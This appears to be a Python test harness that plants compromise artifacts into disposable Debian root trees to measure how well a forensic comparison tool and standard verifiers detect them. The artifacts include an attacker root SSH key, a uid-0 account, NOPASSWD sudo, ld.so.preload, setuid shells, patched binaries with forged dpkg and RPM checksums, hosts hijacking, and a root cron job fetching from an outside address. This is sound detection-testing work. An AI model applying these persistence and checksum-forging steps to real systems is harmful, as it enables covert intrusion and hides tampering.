#!/usr/bin/env python3
"""Compares real systems, and prints what docs/compare.md says of it. Needs root (overlay mounts, chroot), mke2fs, and
debsums, hashdeep, rpm and rpmbuild in the path; diffoscope where --diffoscope is given; for --time a Debian mirror.

usage: sisters.py CRANESCOPE FOLDER [--work DIR] [--only sisters,tools,rpm,time] [--diffoscope PROGRAM]

FOLDER keeps debian12.root and debian11.root (systems.sh makes them). DIR takes images and trees, about 6 GB.

sisters  five sisters of debian12.root with a name, keys, an address and a past of their own; each plant on the third
         alone: does it rank first?
tools    the same plants all together: which of them dpkg --verify, debsums, hashdeep and diffoscope name, and how much
         else they name.
rpm      packages of debian12.root as RPM packages in a tree of their own, the same plants: which rpm -Va names.
time     debian11.root, brought to bookworm and to trixie by apt, then changed by hand in five places: whose hand does
         the comparison see, held against dpkg.log?

Exit code 0: each plant first and nothing beside it, no package change taken for a hand's, no hand's for a package's."""
import argparse, json, os, pathlib, re, shutil, subprocess, sys, tempfile, time

COUNT, ODD = 5, 2
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJkZmhqbHByc3V3eXoxMzU3OWFjZWdpa21vcXN1d3kx support@vendor\n"
UNIT = "[Unit]\nDescription=Load data\n[Service]\nExecStart=/opt/load/agent\n[Install]\nWantedBy=multi-user.target\n"


def run(*command, ok=(0,), seconds=600, **more):
    done = subprocess.run(["timeout", str(seconds), *map(str, command)], capture_output=True, text=True, errors="replace", **more)
    if done.returncode not in ok:
        sys.exit(f"{' '.join(map(str, command))}: exit {done.returncode}: {done.stderr[-2000:]}")
    return done.stdout


def put(root, path, text, mode=0o644):
    at = root / path.lstrip("/")
    at.parent.mkdir(parents=True, exist_ok=True)
    at.write_bytes(text if isinstance(text, bytes) else text.encode())
    at.chmod(mode)


def add(root, path, text):
    with open(root / path.lstrip("/"), "a") as file:
        file.write(text)


def link(root, path, target):
    at = root / path.lstrip("/")
    at.parent.mkdir(parents=True, exist_ok=True)
    at.unlink(missing_ok=True)
    at.symlink_to(target)


def kernel(root):
    return sorted((root / "usr/lib/modules").iterdir())[-1]


def unit(root):
    put(root, "/opt/load/agent", "#!/bin/sh\nexec sleep 1d\n", 0o755)
    put(root, "/etc/systemd/system/load-data.service", UNIT)
    link(root, "/etc/systemd/system/multi-user.target.wants/load-data.service", "/etc/systemd/system/load-data.service")


def patched(root):
    at = root / "usr/bin/scp"
    data = bytearray(at.read_bytes())
    data[-64:-56] = b"CRANEPC7"
    os.chmod(at, 0o755)
    at.write_bytes(data)


def patched_and_vouched(root):
    """Another content, and the database's own list made to fit."""
    before = run("md5sum", root / "usr/bin/sftp").split()[0]
    at = root / "usr/bin/sftp"
    data = bytearray(at.read_bytes())
    data[-64:-56] = b"CRANEPC7"
    at.write_bytes(data)
    after = run("md5sum", at).split()[0]
    sums = root / "var/lib/dpkg/info/openssh-client.md5sums"
    sums.write_text(sums.read_text().replace(before, after))


def module(root):
    source = next((kernel(root) / "kernel/drivers/net/usb").glob("cdc_ether.ko*"))
    to = kernel(root) / "updates" / source.name.replace("cdc_ether", "cdc_yard")
    to.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy(source, to)
    put(root, "/etc/modules-load.d/yard.conf", "cdc_yard\n")


def setuid(root):
    (root / "usr/local/bin").mkdir(parents=True, exist_ok=True)
    shutil.copy(root / "usr/bin/bash", root / "usr/local/bin/menu")
    os.chmod(root / "usr/local/bin/menu", 0o4755)


def mode(root):
    os.chmod(root / "usr/bin/find", 0o4755)


def package(root):
    work = root.parent
    if not list(work.glob("autossh_*.deb")):
        run("apt-get", "download", "-qq", "autossh", cwd=work)
    deb = next(work.glob("autossh_*.deb"))
    shutil.copy(deb, root / "tmp/p.deb")
    run("chroot", root, "/usr/bin/env", "PATH=/usr/sbin:/usr/bin:/sbin:/bin", "DEBIAN_FRONTEND=noninteractive", "dpkg", "--force-depends", "-i", "/tmp/p.deb")
    (root / "tmp/p.deb").unlink()


# What is planted, a word that the first difference must hold, the path that another tool would name.
PLANTS = [
    ("a key that lets in as root", "authorized", "/root/.ssh/authorized_keys", lambda r: put(r, "/root/.ssh/authorized_keys", KEY, 0o600)),
    ("a service with its program", "load-data", "/opt/load/agent", unit),
    ("a scheduled command", "yard-sync", "/etc/cron.d/yard-sync", lambda r: put(r, "/etc/cron.d/yard-sync", "*/5 * * * * root /usr/bin/curl -s http://203.0.113.5/x\n")),
    ("a second account with uid 0", "maint", "/etc/passwd", lambda r: (add(r, "/etc/passwd", "maint:x:0:0::/root:/bin/sh\n"), add(r, "/etc/shadow", "maint:*:19000:0:99999:7:::\n"))),
    ("a packaged program, changed", "/usr/bin/scp", "/usr/bin/scp", patched),
    ("a packaged program and its list, changed", "/usr/bin/sftp", "/usr/bin/sftp", patched_and_vouched),
    ("a kernel module of no package", "cdc_yard", "cdc_yard", module),
    ("a further route", "10.99.0.0", "/etc/network/interfaces", lambda r: add(r, "/etc/network/interfaces", "    up ip route add 10.99.0.0/16 via 10.20.3.1\n")),
    ("a tunnel", "wg0", "/etc/wireguard/wg0.conf", lambda r: put(r, "/etc/wireguard/wg0.conf", "[Interface]\nPrivateKey = aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa=\n[Peer]\nEndpoint = 203.0.113.9:51820\nAllowedIPs = 0.0.0.0/0\n", 0o600)),
    ("a dial-up link", "yard-wan", "/etc/ppp/peers/yard-wan", lambda r: put(r, "/etc/ppp/peers/yard-wan", "/dev/ttyUSB3\n115200\ndefaultroute\nuser m2m\n")),
    ("rights without a password", "90-yard", "/etc/sudoers.d/90-yard", lambda r: put(r, "/etc/sudoers.d/90-yard", "daemon ALL=(ALL) NOPASSWD: ALL\n", 0o440)),
    ("a library loaded into every program", "ld.so.preload", "/etc/ld.so.preload", lambda r: put(r, "/etc/ld.so.preload", "/usr/lib/libyard.so\n")),
    ("a setuid copy of the shell", "/usr/local/bin/menu", "/usr/local/bin/menu", setuid),
    ("a packaged program made setuid", "/usr/bin/find", "/usr/bin/find", mode),
    ("a setting of sshd", "PermitRootLogin", "/etc/ssh/sshd_config", lambda r: put(r, "/etc/ssh/sshd_config.d/yard.conf", "PermitRootLogin yes\n")),
    ("a rule of udev that runs a program", "99-yard", "/etc/udev/rules.d/99-yard.rules", lambda r: put(r, "/etc/udev/rules.d/99-yard.rules", 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/opt/yard/plugged"\n')),
    ("a drop-in of a packaged service", "ssh.service", "/etc/systemd/system/ssh.service.d/yard.conf", lambda r: put(r, "/etc/systemd/system/ssh.service.d/yard.conf", "[Service]\nExecStartPost=/opt/yard/after\n")),
    ("a name that leads elsewhere", "203.0.113.7", "/etc/hosts", lambda r: add(r, "/etc/hosts", "203.0.113.7 deb.debian.org\n")),
    ("a rule of the packet filter", "inet yard", "/etc/nftables.conf", lambda r: add(r, "/etc/nftables.conf", "table inet yard {\n  chain in {\n    type filter hook input priority 0; policy accept;\n    tcp dport 8443 accept\n  }\n}\n")),
    ("a package more", "autossh", "/usr/bin/autossh", package),
]


class Sister:
    """A root of its own over the one that all share."""

    def __init__(self, work, base, number, name):
        self.work, self.name = work, name
        for folder in ("upper", "inner", "root"):
            (work / name / folder).mkdir(parents=True)
        self.root = work / name / "root"
        options = f"lowerdir={base},upperdir={work / name / 'upper'},workdir={work / name / 'inner'}"
        run("mount", "-t", "overlay", "overlay", "-o", options, self.root, seconds=60)
        try:
            self.own(number)
        except BaseException:
            self.close()
            raise

    def own(self, number):
        """What real tools make differ between machines of one kind."""
        root, host = self.root, f"sts-{4100 + number}"
        put(root, "/etc/hostname", host + "\n")
        put(root, "/etc/hosts", f"127.0.0.1 localhost\n127.0.1.1 {host}.port.example {host}\n")
        put(root, "/etc/network/interfaces", f"auto eth0\niface eth0 inet static\n    address 10.20.3.{11 + number}/24\n    gateway 10.20.3.1\n")
        (root / "etc/machine-id").unlink(missing_ok=True)
        run("systemd-machine-id-setup", f"--root={root}")
        for old in (root / "etc/ssh").glob("ssh_host_*"):
            old.unlink()
        run("ssh-keygen", "-q", "-A", "-f", root)
        for public in (root / "etc/ssh").glob("ssh_host_*.pub"):
            kind, key, *_ = public.read_text().split()
            public.write_text(f"{kind} {key} root@{host}\n")
        lines = [f"2026-0{1 + n % 9}-1{n % 10}T06:00:0{n % 10}.00000{number}+00:00 {host} systemd[1]: Started Daily apt download activities.\n" for n in range(20 + 7 * number)]
        put(root, "/var/log/syslog", "".join(lines))
        put(root, "/var/log/auth.log", f"2026-03-01T07:00:00.000001+00:00 {host} sshd[{600 + number}]: Server listening on 0.0.0.0 port 22.\n")
        if number % 2:
            run("gzip", "-9", "-c", root / "var/log/syslog")
            shutil.copy(root / "var/log/syslog", root / "var/log/syslog.1")
        put(root, "/var/lib/systemd/random-seed", os.urandom(512), 0o600)
        put(root, "/var/lib/systemd/timesync/clock", "")
        put(root, "/var/lib/logrotate/status", f'logrotate state -- version 2\n"/var/log/syslog" 2026-3-{number + 1}-6:0:0\n')
        run("ldconfig", "-r", root)
        os.utime(root / "etc/fstab", (1_770_000_000 + number, 1_770_000_000 + number)) if (root / "etc/fstab").exists() else None

    def case(self, tool):
        image, case = self.work / f"{self.name}.img", self.work / f"{self.name}.cranecase"
        return made(tool, self.root, image, case)

    def close(self):
        subprocess.run(["timeout", "60", "umount", self.root]).returncode and subprocess.run(["umount", "-l", self.root])
        shutil.rmtree(self.work / self.name, ignore_errors=True)


def made(tool, root, image, case):
    """An image of a tree, examined."""
    image.unlink(missing_ok=True)
    run("mke2fs", "-q", "-F", "-t", "ext4", "-O", "^has_journal", "-d", root, image, "1800M")
    run(tool, "examine", image, "--case", case, "--overwrite", "--quiet", "--as-of", "2027-01-01")
    image.unlink()
    return case


def compared(tool, cases, *more):
    return json.loads(run(tool, "compare", *cases, "--format", "json", "--as-of", "2027-01-01", *more))


def words(d):
    one = lambda d: f"{d['table']} {d['label']} {d['source']} {json.dumps(d['key'])} {json.dumps(d['columns'])}"
    return " ".join(map(one, [d, *d["below"]]))


def sisters(tool, base, work):
    good = [Sister(work, base, n, f"sister-{n}") for n in range(COUNT)]
    try:
        cases = [s.case(tool) for s in good]
    finally:
        for s in good:
            s.close()
    clean = compared(tool, cases)
    print(f"five sisters, nothing planted: {len(clean['differences'])} differences, {clean['expected']['count']} of expected variation, {clean['shared']} rows alike")
    for d in clean["differences"]:
        print(f"    {d['rank']} {words(d)[:160]}")
    wrong = len(clean["differences"])
    for number, (what, word, _, plant) in enumerate(PLANTS):
        odd = Sister(work, base, ODD, f"planted-{number}")
        try:
            plant(odd.root)
            case = odd.case(tool)
        finally:
            odd.close()
        found = compared(tool, [*cases[:ODD], case, *cases[ODD + 1:]])["differences"]
        ranks = [d["rank"] for d in found if word in words(d)]
        first = ranks[:1] == [1] and found[0]["odd"] == [ODD]
        others = [words(d)[:140] for d in found if d["odd"] != [ODD]]
        wrong += not first or bool(others)
        print(f"{'first' if first else 'NOT FIRST'}  {what}: rank {ranks[:1]} of {len(found)}; class {found[0]['class'] if found else '-'}" + (f"; beside it {others}" if others else ""))
        if not first and found:
            print(f"    first is {words(found[0])[:160]}")
        case.unlink()
    for case in cases:
        case.unlink()
    print(f"{len(PLANTS)} plants, {wrong} wrong")
    return wrong


def listed_by_diffoscope(text, root):
    """A line for each path of which it says something: a difference of its own, or a name in a folder's list alone."""
    paths, folder, in_list = [], "", False
    for line in text.splitlines():
        bare = line.lstrip("│├└─ ")
        if bare.startswith(f"+++ {root}"):
            folder, in_list = bare[4:].removeprefix(str(root)).lstrip("/"), False
            paths.append(folder)
        elif re.match(r"^[│ ]*[├└]── ", line):
            in_list = bare == "file list"
        elif in_list and re.match(r"[+-][^+-]", bare):
            name = f"{folder}/{bare[1:]}".lstrip("/")
            # What only moved in the list is on both sides; of a new folder its content is not listed.
            below = [p.relative_to(root).as_posix() for p in (root / name).rglob("*")] if bare[0] == "+" else []
            paths.append(" ".join([name, *below[:40]]))
    twice = {p for p in paths if paths.count(p) > 1}
    return "\n".join(dict.fromkeys(p for p in paths if p and not (p in twice and "/" not in p)))


def tools(tool, base, work, diffoscope):
    """All plants at once: what each tool names, and how much beside it."""
    clean, odd = Sister(work, base, 0, "clean"), Sister(work, base, ODD, "planted")
    try:
        cases = [clean.case(tool)]
        for _, _, _, plant in PLANTS:
            plant(odd.root)
        cases.append(odd.case(tool))
        # One run each: of several, every one calls unused what the others used.
        hashes, listed = work / "clean.hashes", work / "files"
        hashes.write_text(run("sh", "-c", f"cd {clean.root} && find . -xdev -type f >{listed} && hashdeep -c sha256 -l -f {listed}"))
        told = {"dpkg --verify": run("dpkg", f"--root={odd.root}", "--verify", ok=(0, 1)), "debsums -ac": run("debsums", "-ac", f"--root={odd.root}", ok=(0, 1, 2, 3))}
        audit = run("sh", "-c", f"cd {odd.root} && find . -xdev -type f >{listed} && hashdeep -c sha256 -l -a -vv -k {hashes} -f {listed}", ok=(0, 1, 2, 123))
        told["hashdeep -a"] = "\n".join(line for line in audit.splitlines() if re.search(r": (No match|Known file not used|Moved from)", line))
        if diffoscope:
            begun = time.time()
            out = work / "diffoscope.txt"
            run(diffoscope, "--exclude-directory-metadata=no", "--max-report-size", "0", "--text", out, clean.root, odd.root, ok=(0, 1), seconds=3000)
            told["diffoscope"] = listed_by_diffoscope(out.read_text(errors="replace"), odd.root)
            print(f"diffoscope took {time.time() - begun:.0f} s and wrote {out.stat().st_size} bytes")
        ours = compared(tool, cases)
    finally:
        clean.close()
        odd.close()
    return against(told, ours, PLANTS)


def against(told, ours, plants):
    """What each tool names of the plants, how much else, and what the comparison does."""
    for name, text in told.items():
        named = [what for what, _, path, _ in plants if path.lstrip("/") in text]
        own = sum(1 for line in text.splitlines() if line.strip() and not any(path.lstrip("/") in line for _, _, path, _ in plants))
        print(f"{name}: names the file of {len(named)} of {len(plants)}; {own} further lines; not: {'; '.join(w for w, *_ in plants if w not in named)}")
    named = [what for what, word, _, _ in plants if any(word in words(d) for d in ours["differences"])]
    lines = len(ours["differences"])
    print(f"compare: names {len(named)} of {len(plants)} in {lines} differences, {ours['expected']['count']} of expected variation apart; not: {'; '.join(w for w, *_ in plants if w not in named)}")
    return len(plants) - len(named)


RPMS = ["openssh-client", "openssh-server", "findutils", "bash", "nftables", "sudo", "ifupdown"]


def as_rpm(base, name, work):
    """A package of a Debian root as an RPM package of the same files; `base` may have been changed since."""
    version = run("dpkg-query", f"--admindir={base}/var/lib/dpkg", "-W", "-f", "${Version}", name)
    version = re.sub(r"^\d+:|[^0-9A-Za-z.]", "", version)
    # Below /usr, where merged systems have it; folders come with what is in them.
    merged = lambda f: re.sub(r"^/(bin|sbin|lib)/", r"/usr/\1/", f)
    files = sorted({merged(f) for f in run("dpkg-query", f"--admindir={base}/var/lib/dpkg", "-L", name).splitlines()})
    files = [f for f in files if os.path.islink(f"{base}{f}") or os.path.isfile(f"{base}{f}")]
    conffiles = set(run("dpkg-query", f"--admindir={base}/var/lib/dpkg", "-W", "-f", "${Conffiles}", name).split())
    entry = lambda f: ("%config(noreplace) " if f in conffiles else "") + f'"{f}"'
    listed = list(map(entry, files))
    spec = work / f"{name}.spec"
    spec.write_text(
        f"Name: {name}\nVersion: {version}\nRelease: 1\nSummary: x\nLicense: x\nAutoReqProv: no\nBuildArch: x86_64\n"
        "%define __os_install_post %{nil}\n%define debug_package %{nil}\n%define _build_id_links none\n"
        f"%description\nx\n%install\n" + "".join(f'mkdir -p "%{{buildroot}}{os.path.dirname(f)}"; cp -a "{base}{f}" "%{{buildroot}}{f}"\n' for f in files)
        + "%files\n" + "\n".join(listed) + "\n")
    run("rpmbuild", "-bb", "--quiet", "--define", f"_topdir {work}/rpm", spec)
    return next((work / "rpm/RPMS").rglob(f"{name}-{version}-1.*.rpm"))


def rpm_tools(tool, base, work):
    """The plants on a tree of RPM packages: what rpm -Va names. The one that changes the list with the program does so in rpm's database."""
    tree = work / "rpm.root"
    for old in (tree, work / "rpm"):
        shutil.rmtree(old, ignore_errors=True)
    for folder in ("usr/bin", "usr/sbin", "usr/lib", "tmp", "etc/network", "root", "var/lib/rpm"):
        (tree / folder).mkdir(parents=True, exist_ok=True)
    for link in ("bin", "sbin", "lib"):
        (tree / link).symlink_to(f"usr/{link}")
    (tree / "etc/ssh").mkdir()
    for kept in ("etc/passwd", "etc/shadow", "etc/group", "etc/ssh/sshd_config", "usr/lib/os-release"):
        shutil.copy(base / kept, tree / kept)
    put(tree, "/etc/hosts", "127.0.0.1 localhost\n")
    put(tree, "/etc/network/interfaces", "auto eth0\niface eth0 inet static\n    address 10.20.3.11/24\n")
    driver = next((kernel(base) / "kernel/drivers/net/usb").glob("cdc_ether.ko*"))
    put(tree, driver.relative_to(base).as_posix(), driver.read_bytes())
    rpms = [as_rpm(base, name, work) for name in RPMS]
    run("rpm", "--root", tree, "-i", "--nodeps", "--noscripts", "--ignorearch", *rpms)
    clean = run("rpm", "--root", tree, "-Va", "--nodeps", "--noscripts", ok=(0, 1))
    print(f"rpm -Va of the tree without plants: {len(clean.splitlines())} lines")
    cases = [made(tool, tree, work / "rpm-clean.img", work / "rpm-clean.cranecase")]
    plants = [p for p in PLANTS if p[0] != "a package more"]
    for _, _, _, plant in plants:
        if plant is not patched_and_vouched:
            plant(tree)
    # Another content of /usr/bin/sftp, which rpm's own database takes for the package's.
    with tempfile.TemporaryDirectory() as changed:
        other = pathlib.Path(changed) / "root"
        run("cp", "-a", "--reflink=auto", base / "var/lib/dpkg", changed)
        for path in run("dpkg-query", f"--admindir={base}/var/lib/dpkg", "-L", "openssh-client").splitlines():
            if os.path.isfile(f"{base}{path}") or os.path.islink(f"{base}{path}"):
                (other / path.lstrip("/")).parent.mkdir(parents=True, exist_ok=True)
                shutil.copy2(f"{base}{path}", other / path.lstrip("/"), follow_symlinks=False)
        (other / "var/lib").mkdir(parents=True, exist_ok=True)
        shutil.move(f"{changed}/dpkg", other / "var/lib/dpkg")
        patched_and_vouched(other)
        shutil.copy2(other / "usr/bin/sftp", tree / "usr/bin/sftp")
        forged = as_rpm(other, "openssh-client", work)
        run("rpm", "--root", tree, "-U", "--justdb", "--force", "--nodeps", "--noscripts", "--ignorearch", forged)
    told = {"rpm -Va": run("rpm", "--root", tree, "-Va", "--nodeps", "--noscripts", ok=(0, 1))}
    cases.append(made(tool, tree, work / "rpm-planted.img", work / "rpm-planted.cranecase"))
    return against(told, compared(tool, cases), plants)


SUITES = ("bookworm", "trixie")


def updated(root):
    """Brought up to date by apt, as its own package manager does it."""
    put(root, "/usr/sbin/policy-rc.d", "#!/bin/sh\nexit 101\n", 0o755)
    script = ["set -e", f"mount -t proc proc {root}/proc", f"mount --bind /dev {root}/dev", f"cp -L /etc/resolv.conf {root}/etc/resolv.conf"]
    apt = "apt-get -qy -o Dpkg::Options::=--force-confdef -o Dpkg::Options::=--force-confold -o Dpkg::Use-Pty=0"
    for suite in SUITES:
        script.append(f"echo 'deb http://deb.debian.org/debian {suite} main' >{root}/etc/apt/sources.list")
        script.append(f"chroot {root} /usr/bin/env DEBIAN_FRONTEND=noninteractive LC_ALL=C PATH=/usr/sbin:/usr/bin:/sbin:/bin sh -c '{apt} update && {apt} full-upgrade && {apt} autoremove'")
    run("unshare", "-m", "--propagation", "private", "bash", "-c", "\n".join(script), seconds=3600)
    for gone in ("usr/sbin/policy-rc.d", "etc/resolv.conf"):
        (root / gone).unlink(missing_ok=True)
    shutil.rmtree(root / "var/cache/apt", ignore_errors=True)
    shutil.rmtree(root / "var/lib/apt/lists", ignore_errors=True)


# By hand, after the updates: what, and a word of it.
HANDS = [
    ("a key that lets in as root", "authorized", lambda r: put(r, "/root/.ssh/authorized_keys", KEY, 0o600)),
    ("a service with its program", "load-data", unit),
    ("a packaged program, changed", "/usr/bin/scp", patched),
    ("a setting of sshd", "PermitRootLogin", lambda r: put(r, "/etc/ssh/sshd_config.d/yard.conf", "PermitRootLogin yes\n")),
    ("a scheduled command", "yard-sync", lambda r: put(r, "/etc/cron.d/yard-sync", "*/5 * * * * root /usr/bin/curl -s http://203.0.113.5/x\n")),
]


def in_time(tool, base, work, ready):
    root = work / "time.root"
    if not ready:
        run("cp", "-a", base, root)
    before = made(tool, base, work / "before.img", work / "before.cranecase")
    if not ready:
        updated(root)
    for _, _, change in HANDS:
        change(root)
    log = (root / "var/log/dpkg.log").read_text()
    after = made(tool, root, work / "after.img", work / "after.cranecase")
    found = compared(tool, [before, after], "--in-time")["differences"]
    # What the log says of each package: its last version, or that it went.
    logged = {}
    for line in log.splitlines():
        _, _, action, *rest = line.split()
        if action in ("install", "upgrade", "remove", "purge") and len(rest) >= 3:
            name = rest[0].split(":")[0]
            logged[name] = None if action in ("remove", "purge") else rest[2]
    # Those whose version is as it was differ in what the manager notes beside it (automatic).
    by_version = lambda d: "version" in d["columns"] or None in d["states"]
    packages = [d for d in found if d["table"] == "packages" and by_version(d)]
    whose = lambda d: (d["hand"] or {}).get("whose")
    agree = disagree = 0
    for d in packages:
        name, version = d["key"]["name"], d["columns"].get("version", [None, None])[1]
        gone = d["states"][1] is None or "deinstall" in str(d["columns"].get("state", [None, None])[1])
        is_last = version is None or logged.get(name) == version
        same = name in logged and (logged[name] is None if gone else is_last)
        told = whose(d) == "package-manager"
        agree += same and told
        if same != told:
            disagree += 1
            print(f"    {name}: told {whose(d)}, the log has {logged.get(name, 'nothing')}, the comparison {version}")
    below = sum(len(d["below"]) for d in packages)
    print(f"{len(packages)} packages differ, {agree} of them by the package manager as dpkg.log has them, {disagree} otherwise; {below} rows stand below them")
    wrong = disagree
    by_hand = [d for d in found if d["table"] != "packages"]
    for what, word, _ in HANDS:
        at = [d for d in by_hand if word in words(d)]
        ok = bool(at) and all(not (whose(d) or "").startswith("package") for d in at)
        wrong += not ok
        print(f"{'by hand' if ok else 'WRONG'}  {what}: rank {at[0]['rank'] if at else '-'} of {len(found)}, {[whose(d) for d in at]}")
    rest = [d for d in by_hand if not any(word in words(d) for _, word, _ in HANDS)]
    counts = {}
    for d in rest:
        counts[(d["class"], whose(d))] = counts.get((d["class"], whose(d)), 0) + 1
    print(f"{len(rest)} further differences: " + ", ".join(f"{n} {c} by {w}" for (c, w), n in sorted(counts.items(), key=str)))
    for d in rest[:40]:
        print(f"    {d['rank']} {d['class']} {whose(d)} {words(d)[:150]}")
    return wrong


def main():
    parser = argparse.ArgumentParser(usage=__doc__)
    parser.add_argument("tool"), parser.add_argument("folder", type=pathlib.Path)
    parser.add_argument("--work", type=pathlib.Path, default=pathlib.Path("/tmp/sisters"))
    parser.add_argument("--only", default="sisters,tools,rpm,time")
    parser.add_argument("--diffoscope")
    parser.add_argument("--updated", action="store_true", help="DIR has time.root already, brought up to date")
    a = parser.parse_args()
    a.work.mkdir(parents=True, exist_ok=True)
    tool, only, wrong = str(pathlib.Path(a.tool).resolve()), a.only.split(","), 0
    if "sisters" in only:
        wrong += sisters(tool, a.folder / "debian12.root", a.work)
    if "tools" in only:
        wrong += tools(tool, a.folder / "debian12.root", a.work, a.diffoscope)
    if "rpm" in only:
        wrong += rpm_tools(tool, a.folder / "debian12.root", a.work)
    if "time" in only:
        wrong += in_time(tool, a.folder / "debian11.root", a.work, a.updated)
    sys.exit(wrong > 0)


main()
